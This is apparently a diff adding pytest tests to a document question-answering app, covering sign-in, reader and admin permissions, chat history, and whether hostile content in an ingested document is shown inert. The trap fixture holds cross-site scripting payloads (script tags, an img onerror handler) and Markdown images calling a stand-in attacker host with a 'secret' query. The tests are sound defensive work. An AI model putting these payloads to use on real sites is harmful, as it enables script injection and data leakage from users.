@@ -83,3 +83,116 @@ def test_search_in_restricts_questions_to_the_chosen_file_types(app_store):
     assert not at.exception
     labels = [as_read(e.label) for e in at.chat_message[1].expander]
     assert labels and all(label.startswith("benefits-guide.pdf") or "benefits-guide.pdf" in label for label in labels), labels
+
+
+PASSWORD = "correct horse battery"
+TRAP = (
+    "# Canteen <script>window.__pwned=1</script> ![x](http://attacker.invalid/h.png)\n\n"
+    "The canteen opens at 7:15 every weekday and closes at 15:00. "
+    "<script>window.__pwned=1</script> <img src=x onerror=alert(1)> "
+    "![x](http://attacker.invalid/leak.png?q=secret) [click](http://attacker.invalid/).\n"
+)
+
+
+@pytest.fixture
+def team_app(ingested, tmp_path, monkeypatch):
+    """The ingested store with sign-in on: boss (admin) and rita, who may read the default collection."""
+    pipeline, _ = ingested
+    monkeypatch.setenv("RAGAPP_STORE_DIR", str(pipeline.settings.store_dir))
+    monkeypatch.setenv("RAGAPP_UPLOAD_DIR", str(tmp_path / "uploads"))
+    monkeypatch.setenv("RAGAPP_APP_DB", str(tmp_path / "app.sqlite"))
+    monkeypatch.setenv("RAGAPP_SIGN_IN", "accounts")
+    from ragapp.accounts import Accounts
+
+    accounts = Accounts(tmp_path / "app.sqlite")
+    accounts.add("boss", "admin", PASSWORD)
+    accounts.add("rita", "reader", PASSWORD)
+    accounts.grant("rita", "default", "read")
+    return pipeline
+
+
+def _sign_in(at: AppTest, name: str, password: str) -> AppTest:
+    at.text_input(key="sign-in-name").input(name)
+    at.text_input(key="sign-in-password").input(password)
+    return next(b for b in at.button if b.label == "Sign in").click().run()
+
+
+def test_a_wrong_password_is_refused_and_a_reader_may_only_ask(team_app):
+    at = AppTest.from_file(APP, default_timeout=300)
+    at.run()
+    assert not at.chat_input and any(h.value == "Sign in" for h in at.header)
+    _sign_in(at, "rita", "correct horse batter")
+    assert any("Wrong name or password" in e.value for e in at.error)
+    assert not at.chat_input
+    _sign_in(at, "nobody", PASSWORD)
+    assert any("Wrong name or password" in e.value for e in at.error) and not at.chat_input
+    _sign_in(at, "rita", PASSWORD)
+    assert not at.exception
+    assert at.chat_input and any("Signed in as **rita** (reader)" in c.value for c in at.sidebar.caption)
+    # A reader: no upload, no delete buttons, documents listed.
+    assert not at.get("file_uploader")
+    assert not [b for b in at.button if (b.key or "").startswith("delete-")]
+    assert any("Documents (" in s.value for s in at.sidebar.subheader)
+    at.chat_input[0].set_value("How many days of paid annual leave do full-time employees get?").run()
+    assert "27" in at.chat_message[1].markdown[0].value
+    # The conversation is kept, listed for its owner, found by a search, deleted.
+    listed = [b for b in at.sidebar.button if (b.key or "").startswith("open-")]
+    assert len(listed) == 1 and "paid annual leave" in as_read(listed[0].label)
+    at.sidebar.text_input(key="history-search").input("zephyr").run()
+    assert not [b for b in at.sidebar.button if (b.key or "").startswith("open-")]
+    at.sidebar.text_input(key="history-search").input("ANNUAL").run()
+    assert [b for b in at.sidebar.button if (b.key or "").startswith("open-")]
+    next(b for b in at.sidebar.button if (b.key or "").startswith("forget-")).click().run()
+    assert not [b for b in at.sidebar.button if (b.key or "").startswith("open-")]
+
+
+def test_an_admin_sees_upload_and_delete_and_the_others_do_not_see_her_history(team_app):
+    boss = AppTest.from_file(APP, default_timeout=300)
+    boss.run()
+    _sign_in(boss, "boss", PASSWORD)
+    assert boss.get("file_uploader") and [b for b in boss.button if (b.key or "").startswith("delete-")]
+    boss.chat_input[0].set_value("What is the total budget of the Lighthouse project?").run()
+    assert [b for b in boss.sidebar.button if (b.key or "").startswith("open-")]
+    rita = AppTest.from_file(APP, default_timeout=300)
+    rita.run()
+    _sign_in(rita, "rita", PASSWORD)
+    assert not [b for b in rita.sidebar.button if (b.key or "").startswith("open-")]
+    # Reopening a conversation brings its answer back, sources included.
+    fresh = AppTest.from_file(APP, default_timeout=300)
+    fresh.run()
+    _sign_in(fresh, "boss", PASSWORD)
+    next(b for b in fresh.sidebar.button if (b.key or "").startswith("open-")).click().run()
+    assert not fresh.exception
+    assert [m.name for m in fresh.chat_message] == ["user", "assistant"]
+    assert "84,000" in fresh.chat_message[1].markdown[0].value
+    assert fresh.chat_message[1].expander
+
+
+def test_a_document_holding_html_and_remote_images_is_shown_inert(tmp_path, monkeypatch, real_embedder, real_generator):
+    from ragapp.pipeline import Pipeline
+    from ragapp.settings import Settings
+
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    (docs / "canteen <b>menu<b> ![y](attacker.invalid).md").write_text(TRAP)
+    store = tmp_path / "store"
+    Pipeline(Settings(store_dir=store), embedder=real_embedder, generator=real_generator).ingest([docs])
+    monkeypatch.setenv("RAGAPP_STORE_DIR", str(store))
+    at = AppTest.from_file(APP, default_timeout=300)
+    at.run()
+    at.chat_input[0].set_value("When does the canteen open?").run()
+    assert not at.exception
+    answer = at.chat_message[1]
+    markdown = [m.value for m in answer.markdown] + [e.label for e in answer.expander] + [c.value for c in answer.caption]
+    markdown += [m.value for m in at.sidebar.markdown]
+    for text in markdown:  # every opener escaped: no tag, no image, no link can form
+        assert not re.search(r"(?<!\\)[<>!\[\]()]", text), text
+    # The text is there to read, shown as written.
+    assert any("\\<script\\>window" in text for text in markdown), markdown
+    assert any("\\!\\[x\\]\\(http" in text for text in markdown), markdown
+    for element in answer.markdown:
+        assert not element.proto.allow_html
+    # The source opened: the document's characters escaped inside our own <mark>.
+    html_bodies = [h.proto.body for e in answer.expander for h in e.get("html")]
+    assert html_bodies and all("<script" not in body and "<img" not in body for body in html_bodies)
+    assert any("&lt;script&gt;" in body for body in html_bodies)
